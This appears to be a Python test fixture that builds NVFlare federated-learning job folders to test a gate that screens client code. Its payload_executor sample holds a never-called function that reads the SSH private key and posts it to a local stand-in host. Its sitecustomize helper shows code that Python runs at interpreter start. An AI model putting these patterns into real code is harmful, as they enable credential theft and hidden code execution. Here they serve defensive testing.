"""Small NumPy-only NVFlare jobs for the end-to-end test, built in tmp dirs.

Modelled on nvflare's sag_np template (nvflare/tool/job/templates/sag_np):
ScatterAndGather over NPModelPersistor on the server, one custom Executor on
the clients. The server app is deployed to the server only and the client app
to the clients only, so a site's digest covers exactly the client app.
"""

from __future__ import annotations

import json
from pathlib import Path

CLEAN_EXECUTOR = '''\
"""Adds one to the global NumPy weights: a stand-in for local training."""

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import ReturnCode
from nvflare.apis.shareable import make_reply


class AddOne(Executor):
    def __init__(self, delta=1):
        super().__init__()
        self.delta = delta

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if task_name != "train":
            return make_reply(ReturnCode.TASK_UNKNOWN)
        dxo = from_shareable(shareable)
        weights = {k: v + self.delta for k, v in dxo.data.items()}
        return DXO(data_kind=DataKind.WEIGHTS, data=weights).to_shareable()
'''

# Escalates but is not malicious: a module the gate cannot fully judge
# (an import whose name is only known at run time).
ESCALATING_EXTRA = '''\
"""Loads an optional plugin by a name from the job config."""

import importlib


def load_plugin(name):
    return importlib.import_module(name)
'''


def payload_executor(import_marker: Path, init_marker: Path) -> str:
    """A trainer that leaves a file behind when imported and another when built,
    and carries a (never called) theft of the site's SSH key, which is what the
    gate must see. The markers prove that no line of it ran."""
    return f'''\
"""Looks like a trainer."""
import os
import pathlib
import urllib.request

pathlib.Path({str(import_marker)!r}).write_text("imported")

from nvflare.apis.executor import Executor


def _upload_key():
    key = pathlib.Path(os.path.expanduser("~/.ssh/id_rsa")).read_bytes()
    urllib.request.urlopen("http://127.0.0.1:9/k", data=key, timeout=1)


class AddOne(Executor):
    def __init__(self, delta=1):
        super().__init__()
        pathlib.Path({str(init_marker)!r}).write_text("constructed")

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        raise RuntimeError("must never run")
'''


def sitecustomize(marker: Path) -> str:
    """A module that leaves a file behind when imported. As custom/sitecustomize.py
    Python runs it at interpreter start (NVFlare puts custom/ on the job
    process's PYTHONPATH); under custom/nvflare_decomposers/ NVFlare imports it
    before it builds any component."""
    return f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran at start-up')\n"


_NV = "nvflare.app_common."


def _server_config(num_rounds: int, min_clients: int) -> dict:
    return {
        "format_version": 2,
        "task_data_filters": [],
        "task_result_filters": [],
        "workflows": [{
            "id": "scatter_and_gather",
            "path": "nvflare.app_common.workflows.scatter_and_gather.ScatterAndGather",
            "args": {
                "min_clients": min_clients, "num_rounds": num_rounds, "start_round": 0,
                "wait_time_after_min_received": 0, "aggregator_id": "aggregator",
                "persistor_id": "persistor", "shareable_generator_id": "shareable_generator",
                "train_task_name": "train", "train_timeout": 0,
            },
        }],
        "components": [
            {"id": "persistor", "path": "nvflare.app_common.np.np_model_persistor.NPModelPersistor"},
            {"id": "shareable_generator", "path": _NV + "shareablegenerators.full_model_shareable_generator."
             "FullModelShareableGenerator", "args": {}},
            {"id": "aggregator", "path": _NV + "aggregators.intime_accumulate_model_aggregator."
             "InTimeAccumulateWeightedAggregator", "args": {"expected_data_kind": "WEIGHTS"}},
        ],
    }


CLEAN_EXECUTOR_SPEC = {"path": "np_exec.AddOne", "args": {"delta": 1}}


def _client_config(extra_components: list | None = None, executor: dict | None = None) -> dict:
    return {
        "format_version": 2,
        "executors": [{"tasks": ["train"], "executor": executor or CLEAN_EXECUTOR_SPEC}],
        "task_result_filters": [],
        "task_data_filters": [],
        "components": list(extra_components or []),
    }


def make_job(root: Path, name: str, custom: dict[str, str], extra_components: list | None = None,
             num_rounds: int = 1, clients: tuple[str, ...] = ("site-1", "site-2"), executor: dict | None = None) -> Path:
    """Write a job folder `root/name` for `clients` and return its path."""
    job = root / name
    server_cfg = job / "app_server" / "config"
    client_cfg = job / "app_client" / "config"
    server_cfg.mkdir(parents=True)
    client_cfg.mkdir(parents=True)
    (server_cfg / "config_fed_server.json").write_text(json.dumps(_server_config(num_rounds, len(clients)), indent=2))
    (client_cfg / "config_fed_client.json").write_text(json.dumps(_client_config(extra_components, executor), indent=2))
    custom_dir = job / "app_client" / "custom"
    custom_dir.mkdir()
    for rel, text in custom.items():
        (custom_dir / rel).parent.mkdir(parents=True, exist_ok=True)
        (custom_dir / rel).write_text(text)
    meta = {
        "name": name,
        "resource_spec": {},
        "min_clients": len(clients),
        "mandatory_clients": [],
        "deploy_map": {"app_server": ["server"], "app_client": list(clients)},
    }
    (job / "meta.json").write_text(json.dumps(meta, indent=2))
    return job
